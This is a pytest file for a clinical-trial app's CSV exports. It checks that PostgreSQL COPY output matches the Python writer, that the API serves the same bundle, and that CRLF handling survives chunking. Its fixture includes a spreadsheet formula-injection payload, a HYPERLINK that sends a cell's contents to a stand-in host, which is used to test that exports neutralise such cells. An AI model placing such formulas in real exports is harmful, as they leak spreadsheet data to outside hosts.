"""Dataset CSVs by PostgreSQL's COPY equal the Python writer's, byte for byte, on the same database; the
statistician API serves exactly the bundle's CSV."""
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from crf import registry
from crf.services.entry import save_crf
from edc import roles
from exports.copy_csv import _crlf, copy_csv_chunks, python_csv_chunks
from exports.datasets import all_datasets
from exports.writers_csv import write_csv
from tests import factories
from tests.exports.helpers import crafted

pytestmark = pytest.mark.django_db

# Text a spreadsheet would run, text that needs quoting, an empty text, a line break inside a cell.
AWKWARD = ['=HYPERLINK("http://x/?"&A1,"click")', "+1 dose", "-2e-3", "@home", "\tindent", 'say "hi", then\nleave',
           "", "普通文本", "6 tablets", "3:00 pm"]


@pytest.fixture
def trial(site, clinician):
    factories.strata_and_list()
    people = [crafted(site, clinician), crafted(site, clinician, infused=False, major_deviation=True)]
    t = registry.get("deviation")
    for n, text in enumerate(AWKWARD):
        row = t.model(participant=people[0], date=timezone.localdate() - timedelta(days=n), severity="minor",
                      category="other", description=text or "x", corrective_action=text)
        save_crf(t, row, visit=None, user=clinician, acknowledge=True)
    return people


def python_bytes(dataset) -> bytes:
    out = io.BytesIO()
    write_csv(dataset, out)
    return out.getvalue()


def test_copy_writes_every_copyable_dataset_exactly_as_the_python_writer(trial):
    copyable = [d for d in all_datasets() if d.sql is not None]
    assert {"crf_labs", "crf_vitals", "crf_infusion", "crf_deviation"} <= {d.name for d in copyable}
    for dataset in copyable:
        expected = python_bytes(dataset)
        assert b"".join(copy_csv_chunks(dataset)) == expected, dataset.name
    deviation = next(d for d in copyable if d.name == "crf_deviation")
    text = python_bytes(deviation).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",-2e-3" in text and "'@home" in text  # the one CSV cell rule


def test_only_the_datasets_assembled_in_python_keep_the_python_writer(trial):
    assert {d.name for d in all_datasets() if d.sql is None} == {"participants", "response"}


def test_json_columns_are_postgresqls_jsonb_text(trial):
    """docs/EXPORTS.md "JSON columns": both paths write PostgreSQL's own jsonb text."""
    visit = trial[0].visits.get(code="m0")
    registry.get("bilag").model.objects.create(participant=trial[0], visit=visit, grade="A",
                                               features=[{"reason": "UPCR ≥ 50", "code": "proteinuria"}],
                                               inputs={"upcr_mg_mmol": 92.6453, "gfr": 107.8, "previous_visit": None})
    bilag = next(d for d in all_datasets() if d.name == "crf_bilag")
    names = [c.name for c in bilag.columns]
    row = next(iter(bilag.iter_rows()))
    assert row[names.index("inputs")] == '{"gfr": 107.8, "upcr_mg_mmol": 92.6453, "previous_visit": null}'
    assert row[names.index("features")] == '[{"code": "proteinuria", "reason": "UPCR ≥ 50"}]'
    assert b"".join(copy_csv_chunks(bilag)) == python_bytes(bilag)


def test_the_python_chunks_are_the_python_writer(trial):
    for dataset in all_datasets():
        if dataset.sql is None:
            assert b"".join(python_csv_chunks(dataset, rows_per_chunk=1)) == python_bytes(dataset)


def test_row_ends_become_crlf_but_line_breaks_inside_quotes_stay_across_chunks():
    data = b'a,"x\ny ""q"" z"\nb,c\n'
    for size in (1, 2, 3, 5, len(data)):
        chunks = [data[i:i + size] for i in range(0, len(data), size)]
        assert b"".join(_crlf(iter(chunks))) == b'a,"x\ny ""q"" z"\r\nb,c\r\n'


def test_the_api_serves_the_bundles_csv(trial, site, client_for, client):
    statistician = factories.make_user(roles.STATISTICIAN, site)
    key = client_for(statistician).post(reverse("api_token")).context["key"]
    for name in ("crf_labs", "participants", "crf_deviation"):
        response = client.get(reverse("api_dataset", args=[name]), HTTP_AUTHORIZATION=f"Token {key}")
        assert response.status_code == 200
        dataset = next(d for d in all_datasets() if d.name == name)
        assert b"".join(response.streaming_content) == python_bytes(dataset), name


def test_row_ends_are_found_in_any_chunking_of_quote_heavy_text():
    import csv
    import random

    rng = random.Random(7)
    cells = ['{"a": "b", "c": [1, 2]}', 'x\ny', '""', 'plain', '"\n"', "", "a\r\nb", "中文"]
    rows = [[rng.choice(cells) for _ in range(4)] for _ in range(300)]
    crlf, lf = io.StringIO(newline=""), io.StringIO(newline="")
    csv.writer(crlf).writerows(rows)
    csv.writer(lf, lineterminator="\n").writerows(rows)
    data = lf.getvalue().encode()
    for _ in range(20):
        cuts = sorted(rng.sample(range(1, len(data)), 25))
        chunks = [data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)], strict=True)]
        assert b"".join(_crlf(iter(chunks))) == crlf.getvalue().encode()
